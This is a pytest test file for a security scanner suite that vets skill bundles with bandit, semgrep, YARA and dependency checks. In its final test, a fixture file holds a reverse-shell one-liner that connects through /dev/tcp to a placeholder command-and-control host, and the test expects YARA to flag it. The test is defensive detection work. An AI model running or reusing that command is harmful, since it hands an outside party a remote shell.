"""All tools together: one answer a tool for each bundle, in order, whatever breaks."""

import yara_x
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vetting import scanners
from vetting.bundle import Bundle, BundleFile
from vetting.scanners import SCANNERS, Source, scan, yara
from vetting.scanners.pieces import fences_in, pieces_of, unread

NAMES = [tool.NAME for tool in SCANNERS]


def test_every_bundle_gets_an_answer_of_every_tool(bundle):
    results = scan([bundle({"a.py": "x = 1\n"}), bundle({})])
    assert [[result.scanner for result in row] for row in results] == [NAMES, NAMES]
    assert all(result.version and result.state in ("ok", "nothing-to-scan") for row in results for result in row)
    assert scan([]) == []


def test_a_tool_that_breaks_is_a_finding_and_the_others_go_on(bundle, monkeypatch):
    def broken(sources):
        raise RuntimeError("no such luck")

    monkeypatch.setattr(yara, "scan", broken)
    (row,) = scan([bundle({"a.py": "import pickle\npickle.loads(x)\n"})])
    states = {result.scanner: result.state for result in row}
    assert states == {"bandit": "ok", "semgrep": "ok", "yara": "failed", "dependencies": "nothing-to-scan"}
    (finding,) = row[2].findings
    assert finding.check == "yara:failed" and "no such luck" in finding.why


def test_too_many_findings_are_counted_and_the_gravest_are_shown(bundle):
    lines = "".join(f"hashlib.md5(x{i})\n" for i in range(200))
    row = scan([bundle({"a.py": "import hashlib, pickle\n" + lines + "pickle.loads(x)\n"})])[0]
    by_name = {result.scanner: result.findings for result in row}
    assert len(by_name["semgrep"]) == 61 and by_name["semgrep"][0].line == 202
    assert "141 more" in by_name["semgrep"][-1].why


def test_the_versions_change_with_the_rules(monkeypatch, tmp_path):
    before = scanners.versions()
    (tmp_path / "new.yar").write_text("rule x { condition: false }")
    monkeypatch.setattr(yara, "_rule_files", lambda: (tmp_path / "new.yar",))
    after = scanners.versions()
    assert before["yara"] != after["yara"] and before["semgrep"] == after["semgrep"]


def test_fences_are_read_as_markdown_reads_them():
    text = "````md\n```python\nnot code\n```\n````\n\n  ```PYTHON title=x\n  a = 1\n  ```\n"
    text += "\n~~~sh\n```\nls\n~~~\n```py\nopen = 1"
    assert [(p.language, p.text, p.offset) for p in fences_in("a.md", text)] == [
        ("python", "a = 1\n", 7), ("bash", "```\nls\n", 11), ("python", "open = 1\n", 15),
    ]  # fmt: skip
    (console,) = fences_in("a.md", "```console\n$ curl -k x\nout\n```\n")
    assert console.text == "curl -k x\nout\n"


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(
    st.dictionaries(
        st.sampled_from(["a.py", "b.md", "package.json", "requirements.txt", ".npmrc", "c.sh", "pyproject.toml"]),
        st.text(max_size=300) | st.binary(max_size=300),
        max_size=4,
    )
)
def test_no_bundle_breaks_a_tool(contents):
    files = {"SKILL.md": "---\nname: x\ndescription: x\n---\n", **contents}
    raw = {path: text.encode("utf-8", "replace") if isinstance(text, str) else text for path, text in files.items()}
    made = Bundle(tuple(BundleFile(path, raw[path]) for path in sorted(raw)))
    (row,) = scan([made], without=("semgrep",))
    assert {result.state for result in row} <= {"ok", "nothing-to-scan"}, [result.reason for result in row]
    assert all(finding.line >= 0 for result in row for finding in result.findings)
    pieces_of(made)


def test_what_is_beyond_the_bounds_is_told_as_unread(bundle):
    many = "```sh\nls\n```\n" * 700
    large = bundle({"README.md": many, "big.py": "#" * 600_000, "last.sh": "ls\n"})
    pieces = pieces_of(large)
    assert len(pieces) == 600
    assert unread(large, pieces) == ["big.py", "everything from README.md on"]
    assert unread(bundle({"a.py": "x = 1\n"}), []) == []


def test_a_file_that_holds_yara_up_is_no_pass_and_the_rest_is_still_found(bundle, monkeypatch):
    class Slow:
        def scan(self, data):
            if data == b"slow":
                raise yara_x.TimeoutError
            return real.scan(data)

    real = yara._scanner()
    monkeypatch.setattr(yara, "_scanner", Slow)
    made = bundle({"a.bin": "slow", "b.sh": "bash -i >& /dev/tcp/c2.example.com/4444 0>&1"})
    (result,) = yara.scan([Source(made, [])])
    assert result.state == "failed" and "a.bin" in result.reason
    assert [finding.check for finding in result.findings] == ["yara:reverse_shell_dev_tcp", "yara:failed"]
